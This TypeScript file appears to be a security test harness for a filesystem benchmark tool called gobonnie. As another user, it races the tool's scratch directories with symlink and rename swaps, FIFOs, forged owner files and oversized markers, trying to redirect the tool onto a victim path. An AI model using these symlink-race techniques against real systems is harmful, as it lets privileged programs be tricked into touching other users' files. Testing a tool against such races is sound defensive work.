/** Attacks as another user, as fast as possible, until SIGTERM. Prints `ready`, and at the end the number of swaps. */
import { execFileSync } from 'node:child_process';
import {
  mkdirSync,
  readdirSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { setImmediate } from 'node:timers/promises';
import type { AttackPlan } from './attack.js';

/** Long enough for gobonnie to find the swapped entry, and short enough for its next call to find the original. */
const SWAPPED_MS = 0.3;
/** Pause before gobonnie has a scratch directory: long enough for it to resolve the path between two swaps. */
const UNSWAPPED_MS = 3;
const HUGE_BYTES = 100_000_000;
const PREFIX = 'gobonnie-';
const FORGED = JSON.stringify({
  format: 'gobonnie-scratch/3',
  owner: { pid: 1, startTime: '1', host: 'h', machine: 'm', boot: 'b', pidNamespace: 'p' },
  createdParents: ['1 1', '2 2'],
  files: 1_000_000,
  trees: [],
  seed: 11,
  smallFileRuns: {},
});

const { uid, target, swappedPath, victim, names, innerVictim, report } = JSON.parse(
  process.argv.at(-1) ?? '',
) as AttackPlan;
process.setgroups?.([]);
process.setgid?.(uid);
process.setuid?.(uid);

let swaps = 0;
let isOver = false;
process.on('SIGTERM', () => {
  isOver = true;
});

if (swappedPath) symlinkSync(victim, `${swappedPath}.link`);
const decoys = innerVictim === null ? [] : makeDecoys();
process.stdout.write('ready\n');
for (let round = 0; !isOver; round++) {
  const decoy = round % 2 === 0 ? innerVictim : decoys[round % decoys.length];
  const entryPaths = listNames(target).map((name) => path.join(target, name));
  const scratches = entryPaths.filter(
    (entryPath) => isScratchName(entryPath) && !decoys.includes(entryPath) && entryPath !== innerVictim,
  );
  // Swaps at least one decoy, so an entry changes while gobonnie reads the directory.
  if (decoy)
    for (const entryPath of [...scratches, decoys[(round + 2) % decoys.length] ?? '']) swap(entryPath, decoy);
  if (report) replaceReport(report, round);
  if (swappedPath) redirect(swappedPath, scratches[0]);
  await setImmediate();
}
process.stdout.write(`${swaps}\n`);

/** Creates entries that look like a scratch directory or link to the victim, to rename over gobonnie's. */
function makeDecoys(): readonly string[] {
  const make = (name: string, act: (entryPath: string) => void) => {
    const entryPath = path.join(target, PREFIX + name);
    act(entryPath);
    return entryPath;
  };
  const makeMarked = (name: string, act: (marker: string) => void) =>
    make(name, (entryPath) => {
      mkdirSync(entryPath, { mode: 0o700 });
      act(path.join(entryPath, 'owner'));
    });
  return [
    make('link00', (entryPath) => symlinkSync(victim, entryPath)),
    make('linked', (entryPath) => {
      mkdirSync(entryPath, { mode: 0o700 });
      for (const name of names) symlinkSync(path.join(victim, name), path.join(entryPath, name));
    }),
    make('pipe00', (entryPath) => execFileSync('mkfifo', [entryPath])),
    makeMarked('forged', (marker) => writeFileSync(marker, `${FORGED}\n`)),
    makeMarked('piped0', (marker) => execFileSync('mkfifo', [marker])),
    makeMarked('huge00', (marker) => {
      writeFileSync(marker, FORGED);
      truncateSync(marker, HUGE_BYTES);
    }),
    make('empty0', (entryPath) => mkdirSync(entryPath, { mode: 0o700 })),
  ];
}

function isScratchName(entryPath: string): boolean {
  return path.basename(entryPath).startsWith(PREFIX);
}

function swap(entryPath: string, decoy: string): void {
  const aside = `${entryPath}x`;
  if (!succeeds(() => renameSync(entryPath, aside))) return;
  if (succeeds(() => renameSync(decoy, entryPath))) {
    count();
    succeeds(() => renameSync(entryPath, decoy));
  }
  succeeds(() => renameSync(aside, entryPath));
}

/** Replaces a file, which may not exist, with a link or a directory for a short time. */
function replaceReport(file: string, round: number): void {
  const isMoved = succeeds(() => renameSync(file, `${file}x`));
  const isPlanted = succeeds(() =>
    round % 2 === 0 ? symlinkSync(path.join(victim, path.basename(file)), file) : mkdirSync(file),
  );
  if (isPlanted) count();
  succeeds(() => rmSync(file, { recursive: true }));
  if (isMoved) succeeds(() => renameSync(`${file}x`, file));
}

/** Links the path of the measured directory to the victim, which has an entry with the scratch directory's new name. */
function redirect(entryPath: string, scratch: string | undefined): void {
  const renamed = path.join(target, 'empty');
  const isRenamed = scratch !== undefined && succeeds(() => renameSync(scratch, renamed));
  swap(entryPath, `${entryPath}.link`);
  if (isRenamed) succeeds(() => renameSync(renamed, scratch));
  pause(scratch === undefined ? UNSWAPPED_MS : SWAPPED_MS);
}

function count(): void {
  swaps += 1;
  pause(SWAPPED_MS);
}

function pause(longestMs: number): void {
  const endMs = performance.now() + Math.random() * longestMs;
  while (performance.now() < endMs);
}

function listNames(directory: string): readonly string[] {
  let names: readonly string[] = [];
  succeeds(() => {
    names = readdirSync(directory);
  });
  return names;
}

/** Returns false if the call fails, because it is forbidden or too late. */
function succeeds(act: () => void): boolean {
  try {
    act();
    return true;
  } catch (error) {
    if ('syscall' in (error as Error)) return false;
    throw error;
  }
}
